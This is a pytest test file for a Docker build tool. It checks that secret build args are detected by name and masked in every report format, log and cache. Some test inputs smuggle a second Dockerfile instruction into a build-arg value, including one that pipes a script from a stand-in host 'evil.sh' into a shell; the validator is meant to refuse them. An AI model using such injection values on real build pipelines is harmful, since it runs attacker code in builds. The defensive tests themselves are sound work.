"""Secret build args: which names are secret, and that their values reach no report, log or cache.

The end-to-end tests run a whole `Validation` on a fake engine whose build log, probe output and
errors echo the secret, as a real `RUN echo $TOKEN` or a crashing import would.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from stablebuild.buildargs import (
    MASK,
    Redactor,
    arg_problem,
    looks_secret,
    masked,
    redactor_for,
    secret_names,
)
from stablebuild.cli.validating import parse_build_args
from stablebuild.engine.client import Engine
from stablebuild.errors import ManifestError, UsageError
from stablebuild.manifest import load_manifest
from stablebuild.probe.probe import MARKER, PROBE_VERSION
from stablebuild.report.format import JsonFormat, JunitFormat, MarkdownFormat, TerminalFormat
from stablebuild.report.model import (
    BuildOutcome,
    BuildStatus,
    CheckResult,
    CheckStatus,
    Diagnosis,
    ImageReport,
    Report,
    redact_image,
)
from stablebuild.validate import ValidateOptions, validate

TOKEN = "ghp_R3alT0kenValue9x"  # what a GitHub token looks like
PASSWORD = "s3cr3t-Pa55word"  # an index password, marked by the manifest only

# Names from real Dockerfiles and CI configurations.
SECRET = [
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "NPM_TOKEN",
    "HF_TOKEN",
    "CI_JOB_TOKEN",
    "npm_token",
    "NPMTOKEN",
    "PIP_INDEX_PASSWORD",
    "PGPASSWORD",
    "POSTGRES_PASSWORD",
    "DB_PASSWD",
    "DB_PASS",
    "AWS_SECRET_ACCESS_KEY",
    "SECRET_KEY_BASE",
    "DJANGO_SECRET_KEY",
    "CLIENT_SECRET",
    "API_KEY",
    "OPENAI_API_KEY",
    "OPENAI_APIKEY",
    "SSH_PRIVATE_KEY",
    "GOOGLE_APPLICATION_CREDENTIALS_JSON",
    "GITHUB_PAT",
    "apiKey",
]
NOT_SECRET = [
    "PYTHON_VERSION",
    "BASE_IMAGE",
    "TOKENIZERS_PARALLELISM",  # Hugging Face's switch
    "PUBLIC_KEY_URL",
    "VAPID_PUBLIC_KEY",
    "SSH_PUB_KEY",
    "STRIPE_PUBLISHABLE_KEY",
    "GPG_KEY",  # the official python images: a fingerprint
    "POSTGRES_PASSWORD_FILE",  # docker secrets' convention: a path
    "TOKEN_URL",
    "SSH_KEY_PATH",
    "SECRET_NAME",
    "PIP_INDEX_URL",
    "APT_KEY_DONT_WARN_ON_DANGEROUS_USAGE",
    "KEY",
    "PATH",
    "PASSTHROUGH",
    "WORKER_TYPE",
    "",
]


@pytest.mark.parametrize("name", SECRET)
def test_names_that_hold_credentials_look_secret(name: str) -> None:
    assert looks_secret(name)


@pytest.mark.parametrize("name", NOT_SECRET)
def test_names_that_do_not(name: str) -> None:
    assert not looks_secret(name)


def test_marked_names_are_secret_in_any_case() -> None:
    args = {"PIP_EXTRA_INDEX_URL": "x", "NPM_TOKEN": "y", "PYTHON_VERSION": "3.12"}
    assert secret_names(args, ["pip_extra_index_url"]) == {"PIP_EXTRA_INDEX_URL", "NPM_TOKEN"}
    assert masked(args) == {"PIP_EXTRA_INDEX_URL": "x", "NPM_TOKEN": MASK, "PYTHON_VERSION": "3.12"}


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("python:3.12\nRUN curl evil.sh | sh", "a line break (\\n) at character 12"),
        ("abc\r\nRUN x", "a carriage return (\\r) at character 4"),
        ("bell\x07", "a control character ('\\x07') at character 5"),
        ("nul\x00", "a control character ('\\x00') at character 4"),
    ],
)
def test_a_value_that_is_not_one_line_is_refused_without_repeating_it(
    value: str, said: str
) -> None:
    problem = arg_problem("GITHUB_TOKEN", value)
    assert problem is not None and "build arg GITHUB_TOKEN" in problem and said in problem
    assert value not in problem and "\n" not in problem


def test_plain_values_and_names_are_accepted() -> None:
    assert arg_problem("BASE", "python:3.12-slim") is None
    assert arg_problem("FLAGS", "-O2\t-g") is None  # a tab is a space, not an instruction
    assert arg_problem("A B", "x") is not None
    assert arg_problem("A=B", "x") is not None
    assert arg_problem("", "x") is not None


def test_redactor_masks_longest_value_first_and_shows_nothing_in_repr() -> None:
    redactor = Redactor(frozenset({"abcd", "abcdefgh"}))
    assert redactor.text("x abcdefgh y abcd z") == f"x {MASK} y {MASK} z"
    assert "abcd" not in repr(redactor)
    data = {"k": ["abcd", ("abcdefgh", 3)], "abcd": None, "n": 1.5}
    assert redactor.data(data) == {"k": [MASK, (MASK, 3)], MASK: None, "n": 1.5}


def test_short_values_are_not_hunted_in_free_text() -> None:
    redactor = redactor_for({"DEBUG_TOKEN": "1", "NPM_TOKEN": TOKEN, "PYTHON_VERSION": "3.12"})
    assert redactor.text("step 1: 3.12 " + TOKEN) == f"step 1: 3.12 {MASK}"
    assert not redactor_for({"PYTHON_VERSION": "3.12.7"})


def test_a_url_password_is_masked_whatever_the_arg_is_called() -> None:
    url = "https://ci:pypi-AgEIcHlwaS5vcmc@pypi.example.com/simple"
    redactor = redactor_for({"PIP_EXTRA_INDEX_URL": url, "MIRROR": "https://deb.debian.org/x"})
    assert redactor.text(f"Looking in indexes: {url}") == (
        f"Looking in indexes: https://ci:{MASK}@pypi.example.com/simple"
    )
    assert not redactor_for({"PIP_INDEX_URL": "https://pypi.org/simple", "GIT": "git@x.org:a/b"})


def test_redact_image_masks_every_text_the_image_report_holds() -> None:
    redactor = redactor_for({"NPM_TOKEN": TOKEN})
    build = BuildOutcome(
        BuildStatus.FAILED,
        log=[f"+ echo {TOKEN}", "npm ERR! 401"],
        error=f"The command 'npm ci --token {TOKEN}' returned a non-zero code: 1",
        diagnosis=Diagnosis("npm-auth", "npm refused the token", "check it", f"token {TOKEN}"),
    )
    checks = [
        CheckResult("runtime.start", "runtime", CheckStatus.FAILED, f"log:\nTOKEN={TOKEN}"),
        CheckResult("files", "files", CheckStatus.PASSED, "ok", {"env": TOKEN}, [TOKEN]),
    ]
    image = ImageReport("api", build, checks, facts={"errors": [f"x: {TOKEN}"]})
    text = repr(redact_image(image, redactor))
    assert TOKEN not in text and text.count(MASK) == 7
    assert TOKEN in repr(image)  # the original is untouched: a copy is made


def test_cli_build_arg_with_a_line_break_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match="build arg BASE: its value holds a line break"):
        parse_build_args(["BASE=python:3.12\nRUN id"])
    assert parse_build_args([f"NPM_TOKEN={TOKEN}"]) == {"NPM_TOKEN": TOKEN}


# -- the manifest --------------------------------------------------------------------------


def write(root: Path, manifest: str) -> Path:
    (root / "Dockerfile").write_text("FROM scratch\n")
    path = root / "stablebuild.yml"
    path.write_text(textwrap.dedent(manifest).lstrip())
    return path


def test_manifest_secret_args_marks_every_image(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        """
        version: 1
        secret_args: [PIP_EXTRA_INDEX_URL, PIP_EXTRA_INDEX_URL, NPM_TOKEN]
        images:
          api: {dockerfile: Dockerfile}
          worker: {dockerfile: Dockerfile, args: {BASE: "python:3.12"}}
        """,
    )
    manifest = load_manifest(path)
    for image in manifest.images.values():
        assert image.secret_args == ("NPM_TOKEN", "PIP_EXTRA_INDEX_URL")


def test_manifest_problems_name_file_line_and_key(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        """
        version: 1
        secret_args: ["NPM TOKEN", GITHUB_TOKEN]
        images:
          api:
            dockerfile: Dockerfile
            args:
              BASE: "python:3.12\\nRUN curl evil.sh | sh"
        profiles:
          ci: {secret_args: [X]}
        """,
    )
    with pytest.raises(ManifestError) as caught:
        load_manifest(path)
    shown = [str(p) for p in caught.value.problems]
    assert any(s.startswith(f"{path}:2: secret_args[0]:") and "'NPM TOKEN'" in s for s in shown), (
        shown
    )
    assert any(
        s.startswith(f"{path}:7: images.api.args.BASE: build arg BASE: its value holds a line")
        for s in shown
    ), shown
    assert any(":9:" in s and "unknown key 'secret_args'" in s for s in shown), shown


# -- a whole validation on a fake engine ----------------------------------------------------


class FakeAPI:
    """The few calls a validation makes; every text it returns echoes the secrets."""

    api_version = "1.41"
    endpoint = "unix:///var/run/docker.sock"

    def __init__(self, leak: str) -> None:
        self.leak = leak
        self.buildargs: list[dict[str, str]] = []
        self.removed: list[str] = []

    def build(self, context: Any, params: dict[str, str], **_: Any) -> Iterator[dict[str, Any]]:
        self.buildargs.append(json.loads(params["buildargs"]))
        yield {"stream": "Step 1/2 : FROM scratch\n"}
        yield {"stream": f"Step 2/2 : ARG NPM_TOKEN={self.leak}\n"}
        if json.loads(params["labels"])["org.stablebuild.image"] == "broken":
            yield {"stream": f"npm ERR! 401 Unauthorized for token {self.leak}\n"}
            yield {"error": f"The command 'npm ci --token={self.leak}' returned a non-zero code"}
            return
        yield {"aux": {"ID": "sha256:" + "a" * 64}}
        yield {"stream": "Successfully built aaaaaaaaaaaa\n"}

    def ping(self) -> bool:  # asked after a failed build: was it the engine going away?
        return True

    def inspect_image(self, image: str) -> dict[str, Any]:
        return {
            "Id": image,
            "Size": 1000,
            "Config": {"User": "1000", "Env": [f"NPM_TOKEN={self.leak}"], "Labels": {}},
            "RootFS": {"Layers": ["l1"]},
        }

    def create_container(self, config: dict[str, Any], name: str | None = None) -> str:
        return "c1"

    def start(self, cid: str) -> None:
        pass

    def wait(self, cid: str, timeout: float) -> int:
        return 0

    def logs(self, cid: str, **_: Any) -> tuple[bytes, bytes]:
        facts = {"probe_version": PROBE_VERSION, "errors": [f"app: ValueError: {self.leak}"]}
        return (MARKER + json.dumps(facts) + "\n").encode(), self.leak.encode()

    def remove_container(self, cid: str, volumes: bool = False) -> None:
        self.removed.append(cid)

    def containers(self, **_: Any) -> list[dict[str, str]]:
        return []


def run_stack(tmp_path: Path, leak: str) -> tuple[Report, FakeAPI, Path]:
    path = write(
        tmp_path,
        """
        version: 1
        name: shop
        secret_args: [PIP_INDEX_PASSWORD_VALUE]
        images:
          api: {dockerfile: Dockerfile, args: {PYTHON_VERSION: "3.12"}}
          broken: {dockerfile: Dockerfile}
        """,
    )
    api = FakeAPI(leak)
    engine = Engine(api=api, info={"ServerVersion": "20.10", "NCPU": 2})
    cache = tmp_path / "cache"
    options = ValidateOptions(
        jobs=1,
        cache_dir=cache,
        extra_args={"NPM_TOKEN": TOKEN, "PIP_INDEX_PASSWORD_VALUE": PASSWORD},
    )
    return validate(engine, load_manifest(path), options), api, cache


@pytest.mark.parametrize("leak", [TOKEN, PASSWORD])
def test_no_secret_reaches_any_format_or_the_cache(tmp_path: Path, leak: str) -> None:
    report, api, cache = run_stack(tmp_path, leak)
    assert api.buildargs[0]["NPM_TOKEN"] == TOKEN  # the engine gets the real value
    assert [i.build.status for i in report.images] == [BuildStatus.BUILT, BuildStatus.FAILED]
    outputs = {
        "terminal": TerminalFormat().format(report),
        "json": JsonFormat(include_log=True).format(report),
        "markdown": MarkdownFormat().format(report),
        "junit": JunitFormat().format(report),
    }
    for name, text in outputs.items():
        assert leak not in text, name
        assert MASK in text, name
    broken = report.images[1].build
    assert broken.error == f"The command 'npm ci --token={MASK}' returned a non-zero code"
    assert f"npm ERR! 401 Unauthorized for token {MASK}" in broken.log
    assert report.images[0].facts == {
        "probe_version": PROBE_VERSION,
        "errors": [f"app: ValueError: {MASK}"],
    }
    written = [p for p in cache.rglob("*") if p.is_file()]
    assert any("results" in p.parts for p in written)
    for file in written:
        assert leak not in file.read_text(), file


def test_progress_lines_show_no_secret(tmp_path: Path) -> None:
    path = write(tmp_path, "version: 1\nimages:\n  api: {dockerfile: Dockerfile}\n")
    api = FakeAPI(TOKEN)
    engine = Engine(api=api, info={"NCPU": 2})
    events: list[str] = []
    options = ValidateOptions(use_cache=False, extra_args={"NPM_TOKEN": TOKEN})
    validate(engine, load_manifest(path), options, observer=lambda e: events.append(repr(e)))
    assert any(f"ARG NPM_TOKEN={MASK}" in e for e in events)
    assert not any(TOKEN in e for e in events)
